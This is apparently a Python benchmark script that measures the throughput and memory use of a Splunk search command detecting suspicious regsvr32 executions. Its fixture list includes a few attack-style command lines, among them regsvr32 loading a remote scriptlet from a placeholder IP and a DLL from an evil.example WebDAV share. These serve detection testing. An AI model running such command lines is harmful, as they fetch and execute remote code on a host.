"""End-to-end benchmark of | regsvr32detect through the real protocol (a script, not a test).

    python3 tests/bench_command.py [--rows 200000] [--repeats 3] [--big 1000000] [--layout cim|pairs]
    ./package.sh bench [same options]        (about 90 seconds with the defaults)

Drives each command as splunkd does (a subprocess; getinfo; execute chunks of 50,000 rows as CSV,
the last one finished) and prints, from ONE run with the measurements alternating so machine noise
hits all of them alike:

- rows/s of the SDK's own no-op StreamingCommand (tests/support/noop_command.py, same vendored splunklib),
  of our command in annotate mode and in filter mode, and their ratios to the no-op;
- peak RSS (VmHWM of the child) after 50k rows and after --big rows: memory must stay flat;
- the detector alone on ordinary and on regsvr32 rows (tests/bench_detector.py).

Input: CIM Endpoint.Processes rows (12 fields) from bench_detector's builders, with about 3% of
them regsvr32 runs, benign and malicious. The timed span is the execute phase (first execute chunk
sent to last reply read); start-up and getinfo are timed apart.
"""
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import argparse  # noqa: E402
import csv  # noqa: E402
import io  # noqa: E402
import random  # noqa: E402
import subprocess  # noqa: E402
import time  # noqa: E402

import bench_detector  # noqa: E402
from support import chunked  # noqa: E402

CHUNK = 50000
NOOP = os.path.join(HERE, "support", "noop_command.py")
COMMANDS = [  # (label, script, args)
    ("no-op (splunklib)", NOOP, []),
    ("regsvr32detect annotate", chunked.SCRIPT, []),
    ("regsvr32detect filter", chunked.SCRIPT, ["mode=filter"]),
]
FLOORS = {"regsvr32detect annotate": 1.0, "regsvr32detect filter": 1.5}
RSS_FLOOR = 1.2
REGSVR32_SHARE = 0.03

SYS32, TEMP = "C:\\Windows\\System32\\", "C:\\Users\\alice\\AppData\\Local\\Temp\\"
REGSVR32 = SYS32 + "regsvr32.exe"
REGSVR32_RUNS = [  # (command line, parent): ordinary installs and attacks, as CIM carries them
    ('"%s" /s "C:\\Program Files\\Contoso\\Shell\\ContosoShell.dll"' % REGSVR32, SYS32 + "msiexec.exe"),
    ("regsvr32.exe /s " + SYS32 + "RpcProxy\\RpcProxy.dll", SYS32 + "cmd.exe"),
    ('regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VboxC.dll"', SYS32 + "msiexec.exe"),
    (REGSVR32 + " /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll", "C:\\Windows\\explorer.exe"),
    (REGSVR32 + " /s " + TEMP + "shell32.jpg", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
    ("regsvr32.exe /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll", SYS32 + "cmd.exe"),
]


def cim_rows(n, seed=20260301):
    """n CIM rows with the same 12 columns; about REGSVR32_SHARE of them regsvr32 runs."""
    rnd = random.Random(seed)
    rows = bench_detector.ordinary_rows(n, rnd)
    for row in rows:
        if rnd.random() < REGSVR32_SHARE:
            cmd, parent = rnd.choice(REGSVR32_RUNS)
            row.update(process=cmd, process_name="regsvr32.exe", process_path=REGSVR32,
                       parent_process='"%s"' % parent, parent_process_name=parent.rsplit("\\", 1)[-1],
                       parent_process_path=parent)
    return rows


def vm_hwm_kb(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1])
    return 0


def cpu_secs(pid):
    """User + system CPU seconds of a live process (fields 14 and 15 of /proc/<pid>/stat)."""
    with open("/proc/%d/stat" % pid) as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / float(os.sysconf("SC_CLK_TCK"))


def drive(script, args, bodies, keep=False):
    """Runs one search over the pre-encoded chunk BODIES (a list, or a (body, count) generator).

    Returns dict(secs, startup, rows_in, hwm_kb, replies): the replies only if KEEP.
    """
    t0 = time.perf_counter()
    proc = subprocess.Popen([sys.executable, script], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            cwd=os.environ.get("TMPDIR", "/tmp"))
    try:
        proc.stdin.write(chunked.frame(chunked.getinfo(args)))
        proc.stdin.flush()
        info, _ = chunked.read_frame(proc.stdout)
        assert "inspector" not in info, info
        t1, c1 = time.perf_counter(), cpu_secs(proc.pid)
        replies, rows_in = [], 0
        bodies = list(bodies)
        for i, (body, count) in enumerate(bodies):
            proc.stdin.write(chunked.frame({"action": "execute", "finished": i == len(bodies) - 1}, body))
            proc.stdin.flush()
            reply = chunked.read_frame(proc.stdout)
            assert reply is not None, "command died"
            rows_in += count
            if keep:
                replies.append(reply)
        t2, c2 = time.perf_counter(), cpu_secs(proc.pid)
        hwm = vm_hwm_kb(proc.pid)  # the child waits for the next chunk: still alive
        proc.stdin.close()
        assert proc.wait(timeout=60) == 0
        return {"secs": t2 - t1, "cpu": c2 - c1, "startup": t1 - t0, "rows_in": rows_in, "hwm_kb": hwm, "replies": replies}
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()


def pairs_csv(rows):
    """Every field followed by its (here empty) __mv_ column, the layout splunklib writes."""
    names = list(rows[0])
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([c for n in names for c in (n, "__mv_" + n)])
    for row in rows:
        writer.writerow([c for n in names for c in (row[n], "")])
    return out.getvalue().encode("utf-8")


def encode(rows, layout="cim"):
    to_csv = pairs_csv if layout == "pairs" else chunked.to_csv
    return [(to_csv(rows[i:i + CHUNK]), len(rows[i:i + CHUNK])) for i in range(0, len(rows), CHUNK)]


def fmt(n):
    return format(int(round(n)), ",")


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--rows", type=int, default=200000, help="rows per throughput run (default 200000)")
    ap.add_argument("--repeats", type=int, default=3, help="alternating repeats (default 3; best counts)")
    ap.add_argument("--big", type=int, default=1000000, help="rows of the big memory run (default 1000000)")
    ap.add_argument("--layout", choices=("cim", "pairs"), default="cim",
                    help="cim: one column per field (default); pairs: each field followed by an "
                         "__mv_ column, as splunklib writes its output")
    args = ap.parse_args()

    rows = cim_rows(max(args.rows, CHUNK))
    bodies = encode(rows[:args.rows], args.layout)
    share = sum(1 for r in rows[:args.rows] if r["process_name"] == "regsvr32.exe") / float(args.rows)

    # Correctness first: every command answers every row (filter: the flagged ones) on 50k rows.
    small = drive(chunked.SCRIPT, [], bodies[:1], keep=True)
    annotated = chunked.from_csv(small["replies"][0][1])
    assert len(annotated) == CHUNK and all(r["regsvr32_error"] == "" for r in annotated)
    flagged = sum(1 for r in annotated if int(r["regsvr32_score"]) >= 1)
    filtered = chunked.from_csv(drive(chunked.SCRIPT, ["mode=filter"], bodies[:1], keep=True)["replies"][0][1])
    assert len(filtered) == flagged, (len(filtered), flagged)

    best, startup = {}, {}
    for _ in range(args.repeats):
        for label, script, cargs in COMMANDS:
            run = drive(script, cargs, bodies)
            for kind, secs in (("wall", run["secs"]), ("cpu", run["cpu"])):
                best[label, kind] = max(best.get((label, kind), 0.0), run["rows_in"] / max(secs, 1e-9))
            startup[label] = min(startup.get(label, 1e9), run["startup"])

    # Memory: one chunk, then --big rows (the same chunk bodies, cycled: the child sees new chunks).
    hwm = {}
    big = [bodies[i % len(bodies)] for i in range(max(1, args.big // CHUNK))]
    for label, script, cargs in COMMANDS:
        hwm[label, "small"] = drive(script, cargs, bodies[:1])["hwm_kb"]
        run = drive(script, cargs, big)
        hwm[label, "big"] = run["hwm_kb"]
        hwm[label, "big_rate"] = run["rows_in"] / run["secs"]

    note, streams, det, _ = bench_detector.measure(50000, args.repeats)

    sys.path.insert(0, os.path.join(chunked.APP_BIN, "lib"))
    import splunklib  # the vendored one that both commands run on
    print("Python %s, splunklib %s, %d cores; %s CIM rows (12 fields, %.1f%% regsvr32, %d of 50k flagged) "
          "in chunks of %s, %s layout; best of %d, alternating"
          % (sys.version.split()[0], splunklib.__version__, os.cpu_count() or 0, fmt(args.rows), 100 * share,
             flagged, fmt(CHUNK), args.layout, args.repeats))
    # rows/s per CPU second of the command's process is what the floors judge: other work on the
    # machine slows the wall clock of every command, not their CPU time. Wall clock alongside.
    base_cpu, base_wall = best[COMMANDS[0][0], "cpu"], best[COMMANDS[0][0], "wall"]
    print("%-24s %12s %9s %12s %9s %7s %9s  %s" % ("command", "rows/cpu-s", "vs no-op", "rows/s wall", "vs no-op",
                                                   "floor", "start-up", "result"))
    for label, _, _ in COMMANDS:
        floor = FLOORS.get(label)
        cpu, wall = best[label, "cpu"], best[label, "wall"]
        print("%-24s %12s %8.2fx %12s %8.2fx %7s %7.0fms  %s" % (
            label, fmt(cpu), cpu / base_cpu, fmt(wall), wall / base_wall, "%.1fx" % floor if floor else "",
            1000 * startup[label], ("PASS" if cpu / base_cpu >= floor else "BELOW") if floor else ""))
    print()
    print("%-24s %12s %12s %7s %7s %12s  %s" % ("peak RSS (VmHWM)", "50k rows", fmt(len(big) * CHUNK) + " rows",
                                                "ratio", "floor", "rows/s (big)", "result"))
    for label, _, _ in COMMANDS:
        small_kb, big_kb = hwm[label, "small"], hwm[label, "big"]
        ratio = big_kb / float(small_kb)
        print("%-24s %9.1f MB %9.1f MB %6.2fx %6.1fx %12s  %s" % (
            label, small_kb / 1024.0, big_kb / 1024.0, ratio, RSS_FLOOR, fmt(hwm[label, "big_rate"]),
            "(yardstick)" if label == COMMANDS[0][0] else "PASS" if ratio <= RSS_FLOOR else "ABOVE"))
    print()
    print("%-40s %12s %14s %9s  %s" % ("detector alone (%s)" % note.split(" (")[0], "rows/s", "dict() rows/s",
                                       "floor", "result"))
    for label, rows_, floor in streams:
        d = det[label, "detector"]
        print("%-40s %12s %14s %9s  %s" % (
            "%s (%s rows)" % (label, fmt(len(rows_))), fmt(d), fmt(det[label, "baseline"]),
            fmt(floor) if floor else "-", ("PASS" if d >= floor else "BELOW") if floor else "(info)"))


if __name__ == "__main__":
    main()
